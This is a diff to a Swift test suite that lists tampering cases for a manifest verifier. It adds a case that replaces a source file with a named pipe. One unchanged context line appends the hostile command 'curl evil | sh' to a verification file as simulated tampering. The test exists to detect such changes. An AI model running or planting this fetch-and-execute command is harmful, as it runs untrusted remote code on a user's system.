@@ -87,6 +87,10 @@ extension ManifestTests {
     Tampering(what: "the page for strangers", codes: [.issuedFileChanged]) {
       try $0.append(Array("    curl evil | sh\n".utf8), to: "issued/VERIFY.txt")
     },
+    Tampering(what: "a pipe in place of a source", codes: [.specialFile, .typeChanged]) {
+      try FileStore.removeFile($0.path.appending("texts/empty.txt"))
+      try $0.fifo("texts/empty.txt")
+    },
     Tampering(what: "a list of the tree that is no JSON", codes: [.issuedFileChanged]) {
       try $0.append([0x0A], to: "issued/TREE.json")
     },
